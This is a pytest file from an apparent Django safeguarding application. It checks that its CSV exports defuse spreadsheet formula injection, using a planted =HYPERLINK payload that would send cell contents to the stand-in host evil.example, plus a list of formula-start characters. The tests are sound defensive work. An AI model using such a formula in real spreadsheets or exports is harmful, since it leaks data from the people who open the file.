"""Every CSV export defuses spreadsheet formulas: a learner named =HYPERLINK(...) is text."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client

from socialguard.identity.roles import Role
from socialguard.people.services import people_import, person_save
from socialguard.policies.services import declaration_make

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cells(response: Any) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]


def _assert_defused(cells: list[str], *, expect_payload: bool = True) -> None:
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], "a cell would run as a formula"
    if expect_payload:
        assert any(c.startswith("'" + PAYLOAD) or c == "'" + PAYLOAD for c in cells), cells


@pytest.fixture
def planted(published: dict[str, Any]) -> dict[str, Any]:
    """The payload as a learner's name, a guardian's name, a staff member's name (who has
    declared) and so in the audit trail too."""
    learner = person_save(
        actor=published["smt"],
        kind="learners",
        raw={"external_id": "L-X", "first_name": PAYLOAD, "last_name": "-1+1", "date_of_birth": "2001-01-01"},
    )
    person_save(
        actor=published["smt"],
        kind="guardians",
        raw={
            "external_id": "G-X",
            "first_name": PAYLOAD,
            "last_name": "@x",
            "learner_ids": learner.external_id,
        },
    )
    tutor = published["tutor"]
    tutor.first_name = PAYLOAD
    tutor.save()
    declaration_make(
        actor=tutor.user,
        staff=tutor,
        version=published["v1"],
        confirmations={"read_and_understood": True, "agrees_to_comply": True, "accepts_monitoring": True},
    )
    return published


@pytest.mark.parametrize(
    "url", ["/people/staff/export.csv", "/people/learners/export.csv", "/people/guardians/export.csv"]
)
def test_people_exports(planted: dict[str, Any], client_for: Callable[..., Client], url: str) -> None:
    response = client_for(Role.AUDITOR).get(url)
    assert response.status_code == 200
    _assert_defused(_cells(response))


def test_people_export_imports_back_with_the_payload_intact(
    planted: dict[str, Any], client_for: Callable[..., Client]
) -> None:
    data = b"".join(client_for(Role.AUDITOR).get("/people/learners/export.csv").streaming_content)  # type: ignore[arg-type]
    result = people_import(actor=planted["smt"], kind="learners", data=data, filename="learners.csv")
    assert result.unchanged == len(result.created) + len(result.updated) + result.unchanged
    assert not result.updated


def test_declarations_export(planted: dict[str, Any], client_for: Callable[..., Client]) -> None:
    response = client_for(Role.AUDITOR).get("/policy/declarations/export.csv")
    assert response.status_code == 200
    _assert_defused(_cells(response))


def test_audit_export(planted: dict[str, Any], client_for: Callable[..., Client]) -> None:
    response = client_for(Role.AUDITOR).get("/audit/export.csv")
    assert response.status_code == 200
    _assert_defused(_cells(response))


def test_cases_export(restricted_case: Any, client_for: Callable[..., Client]) -> None:
    # Only metadata leaves in this export (no free text), but it goes through the same writer.
    response = client_for(Role.AUDITOR).get("/cases/export.csv")
    assert response.status_code == 200
    cells = _cells(response)
    assert restricted_case.reference in cells
    _assert_defused(cells, expect_payload=False)
